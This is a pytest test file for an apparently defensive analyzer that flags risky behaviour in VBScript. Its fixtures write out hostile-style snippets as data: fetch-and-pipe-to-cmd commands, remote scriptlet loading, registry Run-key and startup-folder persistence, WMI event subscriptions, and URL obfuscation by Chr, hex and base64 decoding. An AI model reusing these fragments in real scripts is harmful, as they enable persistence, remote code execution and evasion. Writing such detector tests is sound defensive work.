from __future__ import annotations

import pytest
from telling import effects_told

from gk_hooks.analyzers.context import analyze
from gk_hooks.model.effects import Connect, DynamicCode, Execute, Shell, Unparsed, Via
from gk_hooks.model.kinds import Kind

HTTP = 'Set h = CreateObject("MSXML2.XMLHTTP")\n'
SHELL = 'Set sh = CreateObject("WScript.Shell")\n'
FILES = 'Set fso = CreateObject("Scripting.FileSystemObject")\n'
REGISTRY = 'Set r = GetObject("winmgmts:\\\\.\\root\\default:StdRegProv")\n'
RUN = "Software\\Microsoft\\Windows\\CurrentVersion\\Run"
FORMATTER = "System.Runtime.Serialization.Formatters.Binary.BinaryFormatter"
STARTUP = "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"
GET = "Connect MSXML2.XMLHTTP.Open https://e.example"


def shown(text: str) -> list[str]:
    return effects_told(Kind.VBSCRIPT, text)


def executed(text: str) -> list[Execute]:
    """The programs that the script itself starts."""
    found = [effect for effect in analyze(Kind.VBSCRIPT, text) if isinstance(effect, Execute)]
    return [effect for effect in found if effect.via is Via.SPAWN]


@pytest.mark.parametrize(
    ("text", "expected"),
    (
        pytest.param(HTTP + 'h.Open "GET", "https://e.example", False\nh.Send', [f"2 {GET}"], id="XMLHTTP"),
        pytest.param(HTTP + 'h.open("POST", "https://e.example")', [f"2 {GET}"], id="parentheses"),
        pytest.param(HTTP + 'Call h.Open("GET", "https://e.example")', [f"2 {GET}"], id="Call"),
        pytest.param(
            'With CreateObject("WinHttp.WinHttpRequest.5.1")\n .Open "GET", "http://e.example"\nEnd With',
            ["2 Connect WinHttp.WinHttpRequest.5.1.Open http://e.example"],
            id="With",
        ),
        pytest.param(
            HTTP + 'h.Open "GET", WScript.Arguments(0)', ["2 Connect MSXML2.XMLHTTP.Open {…}"], id="an argument"
        ),
        pytest.param(
            'x.Open "GET", "https://e.example", False', ["1 Connect Open https://e.example ?"], id="an unknown object"
        ),
        pytest.param(
            'Set ie = CreateObject("InternetExplorer.Application")\nie.Navigate "https://e.example"',
            ["2 Connect InternetExplorer.Application.Navigate https://e.example"],
            id="a browser",
        ),
        pytest.param(
            'Set x = CreateObject("Microsoft.XMLDOM")\nx.Load "https://e.example/a.xml"',
            ["2 Connect Microsoft.XMLDOM.Load https://e.example/a.xml"],
            id="an XML document",
        ),
        pytest.param(
            'CreateObject("WScript.Network").MapNetworkDrive "Z:", "\\\\srv\\share"',
            ["1 Connect WScript.Network.MapNetworkDrive srv"],
            id="a network drive",
        ),
        pytest.param(
            'Set m = CreateObject("CDO.Message")\n'
            'm.Configuration.Fields.Item("urn:cdo/smtpserver") = "mail.example"\n'
            "m.Send",
            ["3 Connect CDO.Message.Send mail.example"],
            id="mail",
        ),
        pytest.param(
            'Set m = CreateObject("CDO.Message")\nm.Send', ["2 Connect CDO.Message.Send {…}"], id="mail to somewhere"
        ),
        pytest.param(
            'Set c = CreateObject("ADODB.Connection")\nc.Open "Provider=SQLOLEDB;Data Source=db.example;"',
            ["2 Connect ADODB.Connection.Open db.example"],
            id="a database",
        ),
        pytest.param('GetObject "winmgmts:\\\\srv\\root\\cimv2"', ["1 Connect GetObject srv"], id="WMI elsewhere"),
        pytest.param('Set d = GetObject("LDAP://dc.example/cn=x")', ["1 Connect GetObject dc.example"], id="LDAP"),
        pytest.param(
            'Set d = GetObject("LDAP://rootDSE")', ["1 Connect GetObject {…}"], id="the domain's own controller"
        ),
        pytest.param(
            'Set l = CreateObject("WbemScripting.SWbemLocator")\nSet s = l.ConnectServer("srv", "root\\cimv2")',
            ["2 Connect WbemScripting.SWbemLocator.ConnectServer srv"],
            id="a WMI locator",
        ),
        pytest.param(
            'Set x = CreateObject("Excel.Application", "srv")', ["1 Connect CreateObject srv"], id="an object elsewhere"
        ),
    ),
)
def test_destinations(text: str, expected: list[str]) -> None:
    assert shown(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    (
        pytest.param('Const U = "https://e.example"\n' + HTTP + 'h.Open "GET", U', "https://e.example", id="Const"),
        pytest.param(
            'u = "https://" _\n & "e.example"\n' + HTTP + 'h.Open "GET", u', "https://e.example", id="continued"
        ),
        pytest.param(HTTP + 'h.Open "GET", "https://" + "e.example"', "https://e.example", id="plus"),
        pytest.param(HTTP + 'h.Open "GET", "https://e.example/" & x', "https://e.example/{…}", id="a known host"),
        pytest.param(HTTP + 'h.Open "GET", StrReverse("elpmaxe.e//:sptth")', "https://e.example", id="StrReverse"),
        pytest.param(
            HTTP + 'h.Open "GET", Replace("hXXps://e.example", "XX", "tt")', "https://e.example", id="Replace"
        ),
        pytest.param(
            HTTP + 'h.Open "GET", Join(Array("https:", "", "e.example"), "/")', "https://e.example", id="Join"
        ),
        pytest.param(
            HTTP + 'a = Split("x|https://e.example", "|")\nh.Open "GET", a(1)', "https://e.example", id="Split"
        ),
        pytest.param(HTTP + 'h.Open "GET", Chr(104) & ChrW(&H74) & "tps://e.example"', "https://e.example", id="Chr"),
        pytest.param(HTTP + 'h.Open "GET", Mid("xxhttps://e.examplexx", 3, 17)', "https://e.example", id="Mid"),
        pytest.param(
            's = "68747470733A2F2F652E6578616D706C65"\n'
            'For i = 1 To Len(s) Step 2\n u = u & Chr("&H" & Mid(s, i, 2))\nNext\n' + HTTP + 'h.Open "GET", u',
            "https://e.example",
            id="a decoding loop",
        ),
        pytest.param(
            "Function D(a)\n For Each c In a\n  D = D & Chr(c - 1)\n Next\nEnd Function\n"
            + HTTP
            + 'h.Open "GET", D(Array(105, 117, 117, 113, 59, 48, 48, 102, 47, 121))',
            "http://e.x",
            id="a decoding function",
        ),
        pytest.param(
            HTTP + 'Sub Go(u)\n h.Open "GET", u & "/x"\nEnd Sub\nGo "https://e.example"',
            "https://e.example/x",
            id="a parameter",
        ),
        pytest.param(HTTP + 'Sub Go(u)\n h.Open "GET", u\nEnd Sub', "{…}", id="a procedure that nothing calls"),
        pytest.param(
            'u = "http://localhost"\nIf a Then u = "https://e.example"\n' + HTTP + 'h.Open "GET", u',
            "http://localhost or https://e.example",
            id="either value",
        ),
        pytest.param(
            'Dim u\nIf a Then\n u = "http://localhost"\nElse\n u = "http://127.0.0.1"\nEnd If\n'
            + HTTP
            + 'h.Open "GET", u',
            "http://127.0.0.1 or http://localhost",
            id="both ways of an If",
        ),
        pytest.param(
            'Set e = CreateObject("MSXML2.DOMDocument").createElement("b")\ne.dataType = "bin.base64"\n'
            'e.text = "aHR0cHM6Ly9lLmV4YW1wbGU="\n' + HTTP + 'h.Open "GET", e.nodeTypedValue',
            "https://e.example",
            id="base64 through XML",
        ),
    ),
)
def test_values(text: str, expected: str) -> None:
    found = [effect for effect in analyze(Kind.VBSCRIPT, text) if isinstance(effect, Connect)]
    assert [effect.destination.shown() for effect in found] == [expected]


@pytest.mark.parametrize(
    ("text", "line", "shell"),
    (
        pytest.param(SHELL + 'sh.Run "notepad.exe a.txt"', "notepad.exe a.txt", Shell.NO, id="Run"),
        pytest.param(SHELL + 'Set p = sh.Exec("ipconfig /all")', "ipconfig /all", Shell.NO, id="Exec"),
        pytest.param(SHELL + 'sh.Run "cmd /c dir > a.txt", 0, True', "cmd /c dir > a.txt", Shell.YES, id="cmd"),
        pytest.param(SHELL + 'sh.Run "%comspec% /k ver"', "%comspec% /k ver", Shell.YES, id="ComSpec"),
        pytest.param(SHELL + 'sh.Run Chr(34) & "C:\\a b.exe" & Chr(34)', '"C:\\a b.exe"', Shell.NO, id="quotes by Chr"),
        pytest.param(SHELL + "sh.Run x", "{…}", Shell.NO, id="an unknown command"),
        pytest.param('CreateObject("WScript" & ".Shell").Run("a.exe")', "a.exe", Shell.NO, id="a name in pieces"),
        pytest.param('WScript.CreateObject("WScript.Shell").Run "a.exe"', "a.exe", Shell.NO, id="WScript.CreateObject"),
        pytest.param(
            'CreateObject("Shell.Application").ShellExecute "a.exe", "/x y"', "a.exe /x y", Shell.NO, id="ShellExecute"
        ),
        pytest.param('GetObject("winmgmts:Win32_Process").Create "a.exe", , , p', "a.exe", Shell.NO, id="WMI"),
        pytest.param(
            'Set w = GetObject("winmgmts:{impersonationLevel=impersonate}!\\\\.\\root\\cimv2")\n'
            'w.Get("Win32_Process").Create("a.exe")',
            "a.exe",
            Shell.NO,
            id="WMI by its class",
        ),
        pytest.param(
            'GetObject("new:72C24DD5-D70A-438B-8A42-98424B88AFB8").Run "a.exe"', "a.exe", Shell.NO, id="a class id"
        ),
    ),
)
def test_programs(text: str, line: str, shell: Shell) -> None:
    (effect,) = executed(text)
    assert effect.text is not None
    assert (effect.text.shown(), effect.shell) == (line, shell)


@pytest.mark.parametrize(
    ("text", "expected"),
    (
        pytest.param(SHELL + 'sh.Run "curl https://e.example"', ["2 Connect curl https://e.example"], id="curl"),
        pytest.param(
            SHELL + 'sh.Run "cmd /c curl https://e.example | cmd"', ["2 Connect curl https://e.example"], id="cmd"
        ),
        pytest.param(
            SHELL + 'sh.Run "https://e.example"', ["2 Connect WScript.Shell.Run https://e.example"], id="a URL"
        ),
        pytest.param(
            SHELL + 'sh.Run "schtasks /create /tn a /tr b.exe"',
            ["2 Persist schtasks schedule schtasks create a"],
            id="schtasks",
        ),
        pytest.param(
            SHELL + f'sh.RegWrite "HKCU\\{RUN}\\a", "a.exe"',
            [
                f"2 RegistryWrite WScript.Shell.RegWrite HKCU\\{RUN} a",
                f"2 Persist WScript.Shell.RegWrite autorun WScript.Shell.RegWrite write HKCU\\{RUN}",
            ],
            id="RegWrite",
        ),
        pytest.param(
            SHELL + 'sh.RegWrite "HKCU\\Software\\A\\", 1',
            ["2 RegistryWrite WScript.Shell.RegWrite HKCU\\Software\\A"],
            id="a default value",
        ),
        pytest.param('x.RegWrite "HKCU\\A\\b", 1', ["1 RegistryWrite RegWrite HKCU\\A b ?"], id="an unknown object"),
        pytest.param(
            REGISTRY + f'r.SetStringValue &H80000001, "{RUN}", "a", "a.exe"',
            [
                f"2 RegistryWrite StdRegProv.SetStringValue HKCU\\{RUN} a",
                f"2 Persist StdRegProv.SetStringValue autorun StdRegProv.SetStringValue write HKCU\\{RUN}",
            ],
            id="StdRegProv",
        ),
        pytest.param(
            SHELL + 'Set l = sh.CreateShortcut(sh.SpecialFolders("Startup") & "\\a.lnk")\nl.TargetPath = "a"\nl.Save',
            [
                f"4 WritePath Shortcut.Save {STARTUP}\\a.lnk link",
                f"4 Persist Shortcut.Save autorun startup folder link {STARTUP}\\a.lnk",
            ],
            id="a shortcut at startup",
        ),
        pytest.param(
            FILES + 'fso.CopyFile "a", "C:\\Windows\\System32\\a"',
            ["2 WritePath Scripting.FileSystemObject.CopyFile C:\\Windows\\System32\\a copy"],
            id="CopyFile",
        ),
        pytest.param(
            FILES + 'fso.CreateTextFile(fso.GetSpecialFolder(1) & "\\a").Write "x"',
            ["2 WritePath Scripting.FileSystemObject.CreateTextFile C:\\Windows\\System32\\a write"],
            id="a special folder",
        ),
        pytest.param(
            FILES + 'Const ForAppending = 8\nSet f = fso.OpenTextFile("C:\\a", ForAppending, True)',
            ["3 WritePath Scripting.FileSystemObject.OpenTextFile C:\\a append"],
            id="appending",
        ),
        pytest.param(
            FILES + 'fso.GetFile("a").Copy "C:\\b"', ["2 WritePath File.Copy C:\\b copy"], id="a file's own method"
        ),
        pytest.param(
            'CreateObject("ADODB.Stream").SaveToFile "C:\\a.exe", 2',
            ["1 WritePath ADODB.Stream.SaveToFile C:\\a.exe write"],
            id="a stream",
        ),
        pytest.param(
            'Set s = CreateObject("Schedule.Service")\ns.Connect\nSet f = s.GetFolder("\\")\n'
            'f.RegisterTaskDefinition "T", d, 6, , , 3',
            ["4 Persist TaskFolder.RegisterTaskDefinition schedule TaskFolder.RegisterTaskDefinition create T"],
            id="the task scheduler",
        ),
        pytest.param(
            'GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Service").Create "svc", "S", "a.exe"',
            ["1 Persist Win32_Service.Create schedule Win32_Service.Create create svc"],
            id="a service by WMI",
        ),
        pytest.param(
            'Set w = GetObject("winmgmts:\\\\.\\root\\subscription")\nSet f = w.Get("__EventFilter").SpawnInstance_',
            ["2 Persist __EventFilter.SpawnInstance_ schedule __EventFilter.SpawnInstance_ create __EventFilter"],
            id="a WMI event filter",
        ),
        pytest.param(
            "For Each s In services\n s.StopService()\nNext",
            ["2 Persist StopService schedule StopService stop {…} ?"],
            id="a service stops",
        ),
        pytest.param("Execute x", ["1 DynamicCode Execute text {…}"], id="Execute"),
        pytest.param('y = Eval("1 + " & x)', ["1 DynamicCode Eval text 1 + {…}"], id="Eval"),
        pytest.param(
            'ExecuteGlobal "CreateObject(""WScript.Shell"").Run ""curl https://e.example"""',
            [
                '1 DynamicCode ExecuteGlobal text CreateObject("WScript.Shell").Run "curl https://e.example"',
                "1 Connect curl https://e.example",
            ],
            id="code in code",
        ),
        pytest.param(
            'GetObject("script:https://e.example/a.sct")',
            [
                "1 DynamicCode GetObject module script:https://e.example/a.sct",
                "1 Connect GetObject https://e.example/a.sct",
            ],
            id="a scriptlet",
        ),
        pytest.param(
            'Set c = CreateObject("MSScriptControl.ScriptControl")\nc.Language = "VBScript"\nc.AddCode x',
            ["3 DynamicCode MSScriptControl.ScriptControl.AddCode text {…}"],
            id="a script control",
        ),
        pytest.param(
            f'Set f = CreateObject("{FORMATTER}")\nf.Deserialize_2(s)',
            [f"2 Deserialize {FORMATTER}.Deserialize_2 BinaryFormatter"],
            id="a formatter",
        ),
    ),
)
def test_other_effects(text: str, expected: list[str]) -> None:
    assert shown(text) == expected


@pytest.mark.parametrize(
    "text",
    (
        pytest.param("' see https://e.example\nRem curl https://e.example", id="comments"),
        pytest.param('WScript.Echo "cmd /c curl https://e.example"', id="a message"),
        pytest.param(SHELL + 'x = sh.RegRead("HKCU\\' + RUN + '\\a")', id="reading the registry"),
        pytest.param(FILES + 'Set f = fso.OpenTextFile("C:\\Windows\\a.log", 1)', id="reading a file"),
        pytest.param(FILES + 'If fso.FileExists("C:\\Windows\\a") Then x = 1', id="asking for a file"),
        pytest.param(
            'Set w = GetObject("winmgmts:\\\\.\\root\\cimv2")\nSet c = w.ExecQuery("Select * From Win32_Process")',
            id="WMI here",
        ),
        pytest.param('Set r = New RegExp\nr.Pattern = "a"\nSet m = r.Execute("b")', id="RegExp.Execute"),
        pytest.param('c.Execute "SELECT 1"', id="a database's Execute"),
        pytest.param(HTTP + 'h.setRequestHeader "Referer", "https://e.example"', id="a header"),
        pytest.param("execute = 1\nx = execute", id="a variable with a keyword's name"),
        pytest.param('GetObject("WinNT://./Administrators")', id="accounts of this machine"),
        pytest.param(
            'Set c = CreateObject("ADODB.Connection")\nc.Open "Provider=Microsoft.Jet.OLEDB.4.0;Data Source=a.mdb"',
            id="a database file",
        ),
    ),
)
def test_nothing_happens(text: str) -> None:
    assert shown(text) == []
    assert not executed(text)


def test_letters_by_chr_are_a_disguise_and_quotes_are_not() -> None:
    hidden, plain = analyze(Kind.VBSCRIPT, 'Execute Chr(87) & "x"\nExecute Chr(34) & "x"')
    assert isinstance(hidden, DynamicCode) and isinstance(plain, DynamicCode)
    assert (hidden.payload.decoded, plain.payload.decoded) == (("Chr",), ())


def test_places_are_exact() -> None:
    (effect,) = analyze(Kind.VBSCRIPT, 'If a Then\n  x = 1 : sh.Run "curl.exe " _\n  & x\nEnd If')[:1]
    assert (effect.site.line, effect.site.column, effect.site.end_line) == (2, 11, 3)


def test_a_string_that_is_not_closed() -> None:
    found = analyze(Kind.VBSCRIPT, 'x = "a\n' + HTTP + 'h.Open "GET", "https://e.example"')
    assert [(type(effect), effect.site.line) for effect in found] == [(Unparsed, 1), (Connect, 3)]


@pytest.mark.parametrize(
    "text",
    (
        pytest.param("x = " + "(" * 200_000, id="parentheses"),
        pytest.param("x = " + "a(" * 100_000, id="calls in calls"),
        pytest.param("x = " + "-" * 200_000 + "1", id="signs"),
        pytest.param("If a Then " * 20_000, id="Ifs"),
        pytest.param("For i = 1 To 100\n" * 2_000, id="loops that nothing ends"),
        pytest.param("For i = 1 To 9\n" * 500 + "x = x & x\n" + "Next\n" * 500, id="loops in loops"),
        pytest.param('Function f(a)\nf = f(a & "x") & f(a & "y")\nEnd Function\nx = f("")', id="recursion"),
        pytest.param('x = "aa"\n' + 'x = Replace(x, "a", "aaaaaaaa")\n' * 40, id="a growing string"),
        pytest.param("x = " + "Chr(65) & " * 20_000 + '"a"', id="a long chain"),
        pytest.param("With a\n" * 20_000, id="Withs"),
        pytest.param('\x00\ud800\U0010ffff = &H & "\x00"', id="characters that are none"),
    ),
)
def test_hostile_text_ends(text: str) -> None:
    assert all(effect.site.line >= 1 for effect in analyze(Kind.VBSCRIPT, text))
